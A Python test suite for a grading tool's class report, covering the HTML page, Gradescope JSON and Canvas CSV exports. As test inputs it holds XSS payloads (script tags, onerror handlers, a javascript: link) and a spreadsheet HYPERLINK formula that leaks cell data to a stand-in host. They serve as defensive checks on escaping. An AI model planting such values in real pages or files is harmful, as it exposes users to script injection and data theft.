"""The teacher's view of a graded class (gradekit.class_report): report.html, the Gradescope results.json files and
canvas.csv, from reports shaped as ``classroom.batch`` writes them. Every check is also shown failing on a wrong
input. The last test loads the page in a real (headless) Chromium and looks at what it drew."""

from __future__ import annotations

import csv
import html
import json
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import numpy as np
import pytest
from PIL import Image

from gradekit import class_report, classroom

ROOT = Path(__file__).resolve().parents[2]
SCREENSHOT = ROOT / "build" / "test-screenshots" / "class-report.png"

BWRAP = "bubblewrap 0.8.0 (cgroup, ipc, net, pid, user, uts namespaces; 512 MB scratch), inside it Landlock ABI 4"
HOSTILE = "<script>alert(1)<img src=x onerror=alert(2)>"  # a folder name: anything but "/"
HOSTILE_FEEDBACK = "expected softmax</blockquote><script>alert(3)</script><a href=\"javascript:alert(4)\">x</a>"

# (lesson, exercise, test, points, hidden): a small course, shaped as classroom.course_tests() reads the graders
COURSE = [("lesson01", "to_functional", "test_to_functional_same_layers", 2.0, False),
          ("lesson01", "to_functional", "test_to_functional_same_outputs", 4.0, False),
          ("lesson01", "SimpleDense", "test_simple_dense_builds_weights", 3.0, False),
          ("lesson01", "SimpleDense", "test_short_fit_lowers_the_loss", 3.0, True),
          ("lesson02", "build_qa_model", "test_qa_model_inputs", 5.0, False),
          ("lesson02", "build_qa_model", "test_qa_model_outputs", 5.0, False)]
POSSIBLE = sum(points for *_, points, _ in COURSE)


def report(student: str, failing: dict[str, str] | None = None, sandbox: str = BWRAP, **extra) -> dict:
    """A report as classroom.grade_submission returns it: ``failing`` maps a test's name to its feedback (the test
    earns 0), every other test earns its points."""
    failing = failing or {}
    tests = [{"lesson": lesson, "exercise": exercise, "name": name, "earned": 0.0 if name in failing else points,
              "possible": points, "feedback": failing.get(name, ""), **({"hidden": True} if hidden else {})}
             for lesson, exercise, name, points, hidden in COURSE]
    return {"student": student, "submission": f"{student}.ipynb", "earned": sum(t["earned"] for t in tests),
            "possible": sum(t["possible"] for t in tests), "seconds": 12.5, "tests": tests, "sandbox": sandbox,
            **extra}


def failed(student: str) -> dict:
    """The report classroom.batch writes when grading a submission raised."""
    return {"student": student, "submission": student, "earned": 0.0, "possible": 0.0, "seconds": 0.0, "tests": [],
            "error": "RuntimeError: the judge could not start"}


def a_class() -> list[dict]:
    shape = "to_functional's model gives outputs of shape (None, {}): expected (None, 10)."
    return [
        report("ada"),
        report("bob", {"test_to_functional_same_outputs": shape.format(3),
                       "test_qa_model_outputs": "no output 'answer'."}),
        report("cyd", {"test_to_functional_same_outputs": shape.format(4),
                       "test_qa_model_inputs": "one input, not two."}),
        report("dee", {"test_to_functional_same_layers": "NotImplementedError", "test_to_functional_same_outputs":
                       "NotImplementedError", "test_simple_dense_builds_weights": "NotImplementedError",
                       "test_short_fit_lowers_the_loss": "NotImplementedError", "test_qa_model_inputs":
                       "NotImplementedError", "test_qa_model_outputs": "NotImplementedError"}),
        report(HOSTILE, {"test_simple_dense_builds_weights": HOSTILE_FEEDBACK}),
        report("eve", sandbox="no bubblewrap (bubblewrap (bwrap) is not installed), inside it Landlock ABI 4"),
        report("fay", {"test_qa_model_inputs": "build_qa_model did not finish within 20 s (an endless loop?)."},
               flags=["lesson02: the code names the grading engine (gradekit)"]),
        report("gus", {name: "not graded: grading this submission took longer than 1800 s and was stopped."
                       for *_, name, _, _ in COURSE if name.startswith("test_qa")}),
        failed("hal"),
    ]


def graded(tmp_path: Path, reports: list[dict] | None = None) -> Path:
    """A gradebook folder as batch leaves it (feedback files, gradebook.csv), then class_report.write on it."""
    reports = a_class() if reports is None else reports
    out = tmp_path / "gradebook"
    (out / "feedback").mkdir(parents=True)
    for r in reports:
        (out / "feedback" / f"{r['student']}.md").write_text(classroom.markdown(r) + "\n")
    classroom.gradebook(reports, out / "gradebook.csv")
    class_report.write(reports, out, "0123456789abcdef")
    return out


# ------------------------------------------------------------------------------------------ the page is inert


class Tags(HTMLParser):
    """Every start tag of a page with its attributes, and its links."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "h3", "p", "dl", "div", "dt",
                "dd", "figure", "img", "figcaption", "table", "caption", "thead", "tbody", "tr", "th", "td", "ul",
                "ol", "li", "a", "blockquote", "span"}


def active_content(text: str) -> list[str]:
    """What in a page could run or load something: a tag outside the page's own few, an event handler, a link that
    is not a relative file or an anchor, an image that is not an inline SVG."""
    found = []
    for tag, attrs in Tags(text).tags:
        if tag not in ALLOWED_TAGS:
            found.append(f"<{tag}>")
        found += [f"{tag} {name}=" for name in attrs if name.startswith("on")]
        if tag == "a" and (":" in attrs.get("href", "") or not attrs.get("href")):
            found.append(f"a href={attrs.get('href')}")
        if tag == "img" and not attrs.get("src", "").startswith("data:image/svg+xml;base64,"):
            found.append(f"img src={attrs.get('src')}")
    return found


def test_student_names_and_feedback_are_escaped_and_the_page_runs_nothing(tmp_path):
    text = (graded(tmp_path) / "report.html").read_text()
    assert active_content(text) == []
    assert "<script" not in text.lower() and 'href="javascript' not in text
    assert html.escape(HOSTILE) in text and html.escape(HOSTILE_FEEDBACK) in text, "shown, as text"
    assert "default-src 'none'" in text, "a Content-Security-Policy forbids scripts even if escaping failed"
    # the check sees a page that does not escape
    assert active_content(f"<p>{HOSTILE}</p>") == ["<script>"]
    assert active_content(f"<p>x</p><blockquote>{HOSTILE_FEEDBACK}</blockquote>") == [
        "<script>", "a href=javascript:alert(4)"]
    assert active_content('<p>x</p><img src="data:image/svg+xml;base64,AA" onload="f()">') == ["img onload="]


# ------------------------------------------------------------------------------------------ what the page says


def test_the_most_common_feedback_is_counted_per_student(tmp_path):
    reports = a_class()
    common = class_report.common_feedback(reports)
    # bob's and cyd's messages differ only in the drawn shape: one message, two students; dee's two tests of the
    # exercise said the same: she counts once
    assert common["lesson01:to_functional"] == [
        ("to_functional's model gives outputs of shape (None, 3): expected (None, 10).", ["bob", "cyd"]),
        ("NotImplementedError", ["dee"])]
    # five messages of one student each: the first three, in alphabetical order
    assert common["lesson02:build_qa_model"] == [
        ("NotImplementedError", ["dee"]), ("build_qa_model did not finish within 20 s (an endless loop?).", ["fay"]),
        ("no output 'answer'.", ["bob"])]
    assert common["lesson01:SimpleDense"] == [("NotImplementedError", ["dee"]), (HOSTILE_FEEDBACK, [HOSTILE])]
    assert all(len(messages) <= class_report.TOP_FEEDBACK for messages in common.values())
    # the page shows them, with the count
    text = (graded(tmp_path, reports) / "report.html").read_text()
    assert "2 students: " in text and html.escape("shape (None, 3)") in text
    # a class where one more student got the NotImplementedError changes the order and the counts
    more = [*reports, report("ivy", {"test_to_functional_same_layers": "NotImplementedError"})]
    assert class_report.common_feedback(more)["lesson01:to_functional"][0] != common["lesson01:to_functional"][0]
    assert [m for m, _ in class_report.common_feedback(more)["lesson01:to_functional"]] == [
        "NotImplementedError", "to_functional's model gives outputs of shape (None, 3): expected (None, 10)."]


def look_table(text: str) -> dict[str, str]:
    """The page's "Students to look at" table: student -> the reasons given (as plain text)."""
    section = text.split('<h2 id="look">', 1)[1].split("<h2", 1)[0]
    rows = {}
    for row in section.split("<tr>")[2:]:
        student = html.unescape(row.split('">', 2)[2].split("</a>", 1)[0])
        rows[student] = html.unescape(row)
    return rows


def test_students_whose_grading_failed_or_was_flagged_are_listed(tmp_path):
    text = (graded(tmp_path) / "report.html").read_text()
    looks = look_table(text)
    assert sorted(looks) == ["eve", "fay", "gus", "hal"]
    assert "not graded in bubblewrap: no bubblewrap (bubblewrap (bwrap) is not installed)" in looks["eve"]
    assert "flagged: lesson02: the code names the grading engine (gradekit)" in looks["fay"]
    assert "lesson02: time limit reached in build_qa_model" in looks["fay"]
    assert "lesson02 not graded: grading this submission took longer than 1800 s" in looks["gus"]
    assert "grading failed: RuntimeError: the judge could not start" in looks["hal"]
    assert "no worker was started" in looks["hal"]
    # a student graded in bubblewrap, to the end, unflagged, is not listed; changing any of these lists them
    assert class_report.problems(report("ada")) == []
    for changed in (report("ada", sandbox=""), report("ada", flags=["lesson01: uses ctypes"]),
                    report("ada", sandbox=f"{BWRAP}; no bubblewrap (missing)"), failed("ada")):
        assert class_report.problems(changed), changed
    assert look_table((graded(tmp_path / "clean", [report("ada"), report("bob")]) / "report.html").read_text()) == {}


def broken_links(out: Path) -> list[str]:
    """The page's links to files that do not exist (each relative to the page's folder)."""
    hrefs = [attrs["href"] for tag, attrs in Tags((out / "report.html").read_text()).tags if tag == "a"]
    files = [href for href in hrefs if not href.startswith("#")]
    assert files, "the page links to files"
    return sorted({href for href in files if not (out / unquote(href)).is_file()})


def test_every_student_links_to_their_existing_feedback_file(tmp_path):
    out = graded(tmp_path)
    assert broken_links(out) == []
    text = (out / "report.html").read_text()
    for r in a_class():
        link = "feedback/" + class_report.quote(f"{r['student']}.md")
        assert f'href="{html.escape(link)}"' in text, r["student"]
        assert (out / unquote(link)).read_text().startswith(f"# Grade for {r['student']}:")
    (out / "feedback" / f"{HOSTILE}.md").unlink()
    assert broken_links(out) == ["feedback/" + class_report.quote(f"{HOSTILE}.md")]


def test_the_summary_says_students_totals_and_the_course_version(tmp_path):
    text = (graded(tmp_path) / "report.html").read_text()
    totals = [r["earned"] for r in a_class() if r["tests"]]
    assert "<dt>students</dt><dd>9</dd>" in text and "<dt>graded</dt><dd>8</dd>" in text
    assert f"<dt>median total</dt><dd>{np.median(totals):g}</dd>" in text
    assert f"<dt>max points</dt><dd>{POSSIBLE:g}</dd>" in text
    assert '<dd class="small">0123456789abcdef</dd>' in text
    assert text.count('<img class="plot"') == 2 and 'alt="Histogram of the totals of 8 graded students' in text


# ------------------------------------------------------------------------------------------ Gradescope

# Gradescope's results.json (https://gradescope-autograders.readthedocs.io/en/latest/specs/)
GS_TOP = {"score", "execution_time", "output", "output_format", "test_output_format", "test_name_format",
          "visibility", "stdout_visibility", "extra_data", "tests", "leaderboard"}
GS_TEST = {"score", "max_score", "status", "name", "name_format", "number", "output", "output_format", "tags",
           "visibility", "extra_data"}
GS_VISIBILITY = {"hidden", "after_due_date", "after_published", "visible"}


def gradescope_problems(document: dict, total: float, possible: float) -> list[str]:
    """What in a results.json is not Gradescope's format, or does not add up to ``total`` of ``possible``."""
    found = [f"unknown key {key}" for key in sorted(set(document) - GS_TOP)]
    if not isinstance(document.get("score"), int | float):
        found.append("no numeric score")
    for test in document.get("tests", []):
        found += [f"unknown test key {key}" for key in sorted(set(test) - GS_TEST)]
        if not (isinstance(test.get("score"), int | float) and isinstance(test.get("max_score"), int | float)):
            found.append(f"{test.get('name')}: scores are not numbers")
        if test.get("visibility", "visible") not in GS_VISIBILITY or test.get("status") not in {"passed", "failed"}:
            found.append(f"{test.get('name')}: visibility or status")
        if not isinstance(test.get("name"), str) or not isinstance(test.get("output", ""), str):
            found.append("name and output are text")
    scores = sum(t["score"] for t in document.get("tests", []))
    if document.get("score") != pytest.approx(scores) or scores != pytest.approx(total):
        found.append(f"score {document.get('score')} != tests {scores} != gradebook {total}")
    if sum(t["max_score"] for t in document.get("tests", [])) != pytest.approx(possible):
        found.append("max scores do not add up to the points possible")
    return found


def test_gradescope_results_follow_the_documented_format_and_add_up(tmp_path):
    out = graded(tmp_path)
    rows = {r["student"]: r for r in csv.DictReader(open(out / "gradebook.csv", newline=""))}
    files = sorted(p.parent.name for p in (out / "gradescope").glob("*/results.json"))
    assert files == sorted(rows)
    for student, row in rows.items():
        document = json.loads((out / "gradescope" / student / "results.json").read_text())
        assert gradescope_problems(document, float(row["total"]), float(row["possible"])) == [], student
    bob = json.loads((out / "gradescope" / "bob" / "results.json").read_text())
    failing = [t for t in bob["tests"] if t["status"] == "failed"]
    assert [t["output"] for t in failing] == [
        "to_functional's model gives outputs of shape (None, 3): expected (None, 10).", "no output 'answer'."]
    assert [t["visibility"] for t in bob["tests"]].count("after_published") == 1, "the hidden test, when published"
    assert bob["extra_data"]["sandbox"] == BWRAP and bob["tests"][0]["number"] == "1.1"
    assert json.loads((out / "gradescope" / "hal" / "results.json").read_text())["output"].endswith(
        "Grading failed: RuntimeError: the judge could not start")
    # the check refuses what Gradescope would not read, or a score that does not add up
    assert gradescope_problems({**bob, "points": 3}, bob["score"], POSSIBLE) == ["unknown key points"]
    assert gradescope_problems(bob, bob["score"] + 1, POSSIBLE)
    assert gradescope_problems({**bob, "tests": [{**bob["tests"][0], "visibility": "students"}, *bob["tests"][1:]]},
                               bob["score"], POSSIBLE)


# ------------------------------------------------------------------------------------------ Canvas


def canvas_mismatches(out: Path) -> list[str]:
    """Where canvas.csv disagrees with gradebook.csv: a lesson's points against the sum of its exercises' columns (a
    blank lesson for a student whose grading failed), and the Points Possible row against the lessons' points."""
    with open(out / "canvas.csv", newline="") as handle:
        rows = list(csv.reader(handle))
    header, points_possible, students = rows[0], rows[1], rows[2:]
    book = list(csv.DictReader(open(out / "gradebook.csv", newline="")))
    found = []
    if header[:5] != ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]:
        found.append(f"columns {header[:5]}")
    if points_possible[0].strip() != "Points Possible" or any(points_possible[1:5]):
        found.append("no Points Possible row")
    lessons = header[5:]
    exercises = [column for column in book[0] if ":" in column]
    if sorted({column.split(":")[0] for column in exercises}) != sorted(lessons):
        found.append(f"lessons {lessons}")
    by_student = {row[0]: row for row in students}
    if sorted(by_student) != sorted(row["student"] for row in book):
        found.append("students")
    for row in book:
        cells = by_student.get(row["student"], [])
        if cells[:5] != [row["student"], "", "", row["student"], ""]:
            found.append(f"{row['student']}: identity {cells[:5]}")
        for k, lesson in enumerate(lessons):
            points = sum(float(row[e]) for e in exercises if e.startswith(f"{lesson}:"))
            cell = cells[5 + k] if len(cells) > 5 + k else None
            if cell != "" and (cell is None or float(cell) != pytest.approx(points)):
                found.append(f"{row['student']} {lesson}: {cell} != {points:g}")
            if cell == "" and not (row["possible"] == "0" and points == 0):
                found.append(f"{row['student']} {lesson}: blank, but graded")
    total = sum(float(p) for p in points_possible[5:])
    if total != pytest.approx(max(float(row["possible"]) for row in book)):
        found.append(f"points possible add up to {total}")
    return found


def test_canvas_csv_has_canvas_columns_and_the_gradebooks_points(tmp_path):
    out = graded(tmp_path)
    assert canvas_mismatches(out) == []
    rows = list(csv.reader(open(out / "canvas.csv", newline="")))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "lesson01", "lesson02"]
    assert rows[1] == ["    Points Possible", "", "", "", "", "12", "10"]
    assert {row[0]: row[5:] for row in rows[2:]}["hal"] == ["", ""], "a failed grading is left blank, not a zero"
    assert "Total" not in rows[0], "Canvas would import a total as one more assignment"
    # the check sees a point changed
    text = (out / "canvas.csv").read_text().replace("bob,,,bob,,8,5", "bob,,,bob,,9,5")
    assert text != (out / "canvas.csv").read_text()
    (out / "canvas.csv").write_text(text)
    assert canvas_mismatches(out) == ["bob lesson01: 9 != 8"]


def test_no_csv_cell_starts_like_a_spreadsheet_formula(tmp_path):
    """A folder name or flag a student controls must not run as a formula when a teacher opens a CSV."""
    formula = '=HYPERLINK("x.example?"&A1,"open")'  # a folder name: no "/"
    out = graded(tmp_path, a_class() + [report(formula, flags=["-1+1 @SUM(A1)"])])
    for name in ("gradebook.csv", "canvas.csv"):
        cells = [cell for row in csv.reader(open(out / name, newline="")) for cell in row]
        assert "'" + formula in cells, name
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))], name
    assert "'-1+1 @SUM(A1)" in (out / "gradebook.csv").read_text()
    assert canvas_mismatches(out) == []


# ------------------------------------------------------------------------------------------ determinism


def files(out: Path) -> dict[str, bytes]:
    names = ["report.html", "canvas.csv", *(str(p.relative_to(out)) for p in (out / "gradescope").rglob("*.json"))]
    return {name: (out / name).read_bytes() for name in sorted(names)}


def test_the_same_reports_give_the_same_bytes(tmp_path):
    first = files(graded(tmp_path / "one"))
    second = files(graded(tmp_path / "two", a_class()[::-1]))  # in another order, as another process writes them
    assert len(first) == 2 + len(a_class()) and first == second
    # one point more for one student changes the page
    changed = a_class()
    changed[1] = report("bob", {"test_to_functional_same_outputs": "wrong"})
    third = files(graded(tmp_path / "three", changed))
    assert third["report.html"] != first["report.html"] and third["gradescope/ada/results.json"] == (
        first["gradescope/ada/results.json"])


# ------------------------------------------------------------------------------------------ in a browser


def blank(pixels: np.ndarray) -> bool:
    """Whether a region of a screenshot shows nothing: one colour, or next to no pixel that is not white."""
    rgb = pixels[..., :3].reshape(-1, 3)
    inked = np.any(rgb < 235, axis=1).mean()
    return len(np.unique(rgb, axis=0)) < 3 or inked < 0.005


def test_the_page_renders_its_plots_in_chromium(tmp_path):
    from coursekit import browser

    out = graded(tmp_path)
    SCREENSHOT.parent.mkdir(parents=True, exist_ok=True)
    dialogs: list[str] = []
    try:
        with browser.page(viewport=(1280, 900)) as tab:
            tab.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            tab.goto((out / "report.html").as_uri(), wait_until="load")
            plots = tab.evaluate("""() => [...document.querySelectorAll('img.plot, svg')].map(e => {
                const r = e.getBoundingClientRect();
                return {tag: e.tagName, alt: e.alt || '', natural: e.naturalWidth || 0, complete: !!e.complete,
                        x: r.left + scrollX, y: r.top + scrollY, width: r.width, height: r.height};
            })""")
            scripts = tab.evaluate("document.scripts.length")
            headings = tab.evaluate("[...document.querySelectorAll('h1, h2')].map(h => h.textContent)")
            tab.screenshot(path=str(SCREENSHOT), full_page=True)
    except browser.BrowserMissing as error:
        pytest.fail(str(error), pytrace=False)  # make test installs the browser (bootstrap --extra browser)
    assert scripts == 0 and dialogs == [], "nothing a student wrote ran"
    assert headings[:2] == ["Class report", "Students to look at"]
    assert len(plots) == 2
    for plot in plots:
        assert plot["tag"] == "IMG" and plot["complete"] and plot["natural"] > 0, plot
        assert plot["width"] > 300 and plot["height"] > 100 and plot["alt"], plot
    shot = np.asarray(Image.open(SCREENSHOT).convert("RGB"))
    assert shot.shape[1] == 1280 and shot.shape[0] > 900, "the whole page"
    for plot in plots:
        region = shot[int(plot["y"]):int(plot["y"] + plot["height"]), int(plot["x"]):int(plot["x"] + plot["width"])]
        assert region.size and not blank(region), plot
    bars = shot[int(plots[1]["y"]):int(plots[1]["y"] + plots[1]["height"]),
                int(plots[1]["x"]):int(plots[1]["x"] + plots[1]["width"])].reshape(-1, 3)
    for colour in (class_report.FULL, class_report.PARTIAL, class_report.ZERO):
        rgb = np.array([int(colour[i:i + 2], 16) for i in (1, 3, 5)])
        assert np.any(np.abs(bars.astype(int) - rgb).sum(axis=1) < 30), f"no {colour} bar drawn"
    # the blank check sees a blank region
    assert blank(np.full((200, 300, 3), 255, np.uint8)) and blank(np.zeros((200, 300, 3), np.uint8))
